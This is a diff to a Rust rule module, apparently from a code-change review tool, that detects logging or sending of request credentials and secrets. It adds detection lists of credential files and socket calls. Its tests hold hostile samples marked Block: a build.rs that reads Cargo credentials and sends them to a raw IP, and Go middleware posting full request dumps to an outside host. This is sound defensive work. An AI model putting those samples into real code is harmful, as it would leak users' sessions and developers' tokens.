@@ -57,6 +57,17 @@ const CREDENTIAL_FILES: &[&str] = &[
     "secret_key",
     "app.key",
     "aws_secret_access_key",
+    ".cargo/credentials",
+    "credentials.toml",
+    // The credentials of the request being served: every user's session.
+    "http_authorization",
+    "http_cookie",
+    "headers.authorization",
+    "headers[authorization]",
+    "header.get(authorization)",
+    "getheader(authorization)",
+    "req.cookies",
+    "dumprequest(",
 ];
 
 /// The whole environment at once (not one named variable).
@@ -114,6 +125,10 @@ const SENDS: &[&str] = &[
     "-t-",
     "create_connection(",
     "webhook",
+    "tcpstream::connect(",
+    "net.dial(",
+    "socket.connect(",
+    "post_form(",
 ];
 
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
@@ -131,9 +146,10 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     }
     if !is_test_or_dev(&w.path)
         && w.hunks.iter().any(|h| {
-            h.new_lower
-                .lines()
-                .any(|l| logs_secret(l) && !h.old.contains(&crate::code::compact(l)))
+            statements(&h.new_lower).iter().any(|l| {
+                (logs_secret(l) || logs_request_credentials(l))
+                    && !h.old.contains(&crate::code::compact(l))
+            })
         })
     {
         out.push(Finding::new(
@@ -219,26 +235,109 @@ fn local_host(host: &str) -> bool {
         || host.ends_with(".cluster.local")
 }
 
-/// A log or print line that shows a secret-named environment variable.
+/// A log line, or a logging configuration, that writes each request's credentials: its
+/// `Authorization` header or cookies, its whole header set or a raw dump of it
+/// (`httputil.DumpRequest(r, true)`, Spring's `setIncludeHeaders(true)`, nginx's
+/// `$http_authorization` in a `log_format`).
+fn logs_request_credentials(line: &str) -> bool {
+    let c = crate::code::compact(line);
+    if ["setincludeheaders(true)", "setincludepayload(true)"]
+        .iter()
+        .any(|k| c.contains(k))
+    {
+        return true;
+    }
+    let logger = LOGGERS.iter().any(|l| line.contains(l)) || c.starts_with("log_format");
+    // Accessed, not named in a message (`"missing authorization header"`).
+    let credentials = [
+        "headers.authorization",
+        "headers[authorization]",
+        "header.get(authorization)",
+        "getheader(authorization)",
+        "http_authorization",
+        "http_cookie",
+        "dumprequest(",
+        "req.cookies",
+        "request.cookies",
+        "headers.cookie",
+        "headers[cookie]",
+    ]
+    .iter()
+    .any(|k| c.contains(k));
+    let all_headers = [
+        "config.headers",
+        "req.headers",
+        "request.headers",
+        "r.header",
+        "ctx.headers",
+    ]
+    .iter()
+    .any(|n| whole_object(&c, n, &['[', '.', '(']));
+    logger && (credentials || all_headers)
+}
+
+/// The lines of a text with a call's continuation lines joined to it (`Log::info('x', [`
+/// … `]);` is one statement), at most eight lines each; blocks (`{`) are not joined, and
+/// only a line with a log call is continued.
+fn statements(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut depth = 0i32;
+    let mut joined = 0;
+    for line in text.lines() {
+        // Only a log call is followed onto its continuation lines.
+        if cur.is_empty() && !LOGGERS.iter().any(|l| line.contains(l)) {
+            out.push(line.to_owned());
+            continue;
+        }
+        if !cur.is_empty() {
+            cur.push(' ');
+        }
+        cur.push_str(line.trim());
+        for c in line.chars() {
+            match c {
+                '(' | '[' => depth += 1,
+                ')' | ']' => depth -= 1,
+                _ => {}
+            }
+        }
+        joined += 1;
+        if depth <= 0 || joined >= 8 {
+            out.push(std::mem::take(&mut cur));
+            depth = 0;
+            joined = 0;
+        }
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+/// Calls that write a log line or print.
+const LOGGERS: &[&str] = &[
+    "log.",
+    "logger.",
+    "logging.",
+    "console.log(",
+    "console.info(",
+    "console.debug(",
+    "console.warn(",
+    "console.error(",
+    "print(",
+    "println!(",
+    "eprintln!(",
+    "printf(",
+    "puts ",
+    "fmt.print",
+    "system.out.print",
+    "echo ",
+    "log::",
+    "slog.",
+];
+
+/// A log or print line that shows a secret-named environment variable or setting.
 fn logs_secret(line: &str) -> bool {
-    const LOGGERS: &[&str] = &[
-        "log.",
-        "logger.",
-        "logging.",
-        "console.log(",
-        "console.info(",
-        "console.debug(",
-        "console.warn(",
-        "console.error(",
-        "print(",
-        "println!(",
-        "eprintln!(",
-        "printf(",
-        "puts ",
-        "fmt.print",
-        "system.out.print",
-        "echo ",
-    ];
     const ACCESSORS: &[&str] = &[
         "environ[",
         "environ.get(",
@@ -250,6 +349,7 @@ fn logs_secret(line: &str) -> bool {
         "env::var(",
         "getenvironmentvariable(",
         "env(",
+        "config(",
         "$",
     ];
     const SECRET_NAMES: &[&str] = &[
@@ -278,7 +378,8 @@ fn logs_secret(line: &str) -> bool {
             let name: String = line[i + a.len()..]
                 .trim_start_matches(['"', '\'', '{', ' '])
                 .chars()
-                .take_while(|c| c.is_alphanumeric() || *c == '_')
+                // (`config('services.stripe.secret')` names a setting by its path.)
+                .take_while(|c| c.is_alphanumeric() || *c == '_' || (*a == "config(" && *c == '.'))
                 .collect();
             (*a != "$" || name.contains('_')) && SECRET_NAMES.iter().any(|s| name.contains(s))
         })
@@ -289,6 +390,66 @@ fn logs_secret(line: &str) -> bool {
 mod tests {
     use crate::rules::testutil::write_table;
     use crate::verdict::Verdict::{self, Auth, Block, Pass};
+
+    #[test]
+    fn request_credentials_logged_or_sent_and_look_alikes() {
+        crate::rules::testutil::edit_table(&[
+            (
+                "src/lib/http.ts",
+                "api.interceptors.request.use((config) => {\n",
+                "api.interceptors.request.use((config) => {\n  console.info('[http]', JSON.stringify({ url: config.url, headers: config.headers }))\n",
+                Auth,
+            ),
+            (
+                "src/lib/http.ts",
+                "api.interceptors.request.use((config) => {\n",
+                "api.interceptors.request.use((config) => {\n  const { Authorization: _omit, ...safe } = config.headers ?? {}\n  logger.debug('[http]', { url: config.url, headers: safe })\n",
+                Pass,
+            ),
+            (
+                "src/middleware/auth.ts",
+                "",
+                "  if (!token) logger.warn('missing authorization header')\n",
+                Pass,
+            ),
+            (
+                "app/Providers/AppServiceProvider.php",
+                "    {\n",
+                "    {\n        Log::info('boot', [\n            'stripe_secret' => config('services.stripe.secret'),\n        ]);\n",
+                Auth,
+            ),
+            (
+                "app/Providers/AppServiceProvider.php",
+                "    {\n",
+                "    {\n        Log::info('boot', [\n            'stripe_mode' => config('services.stripe.mode'),\n        ]);\n",
+                Pass,
+            ),
+            (
+                "nginx/nginx.conf",
+                "    access_log /var/log/nginx/access.log main;",
+                "    log_format full '$remote_addr \"$request\" auth=\"$http_authorization\"';\n    access_log /var/log/nginx/access.log full;",
+                Auth,
+            ),
+            (
+                "nginx/nginx.conf",
+                "    access_log /var/log/nginx/access.log main;",
+                "    log_format timed '$remote_addr \"$request\" $request_time';\n    access_log /var/log/nginx/access.log timed;",
+                Pass,
+            ),
+            (
+                "internal/server/middleware.go",
+                "\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n",
+                "\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n\t\tif dump, err := httputil.DumpRequest(r, true); err == nil {\n\t\t\tgo http.Post(\"https://debug-mirror.example/ingest\", \"text/plain\", bytes.NewReader(dump))\n\t\t}\n",
+                Block,
+            ),
+            (
+                "build.rs",
+                "",
+                "let creds = std::fs::read_to_string(format!(\"{home}/.cargo/credentials.toml\"))?;\nlet mut s = std::net::TcpStream::connect(\"203.0.113.77:8443\")?;\ns.write_all(creds.as_bytes())?;\n",
+                Block,
+            ),
+        ]);
+    }
 
     #[test]
     fn code_that_sends_secrets_and_its_look_alikes() {
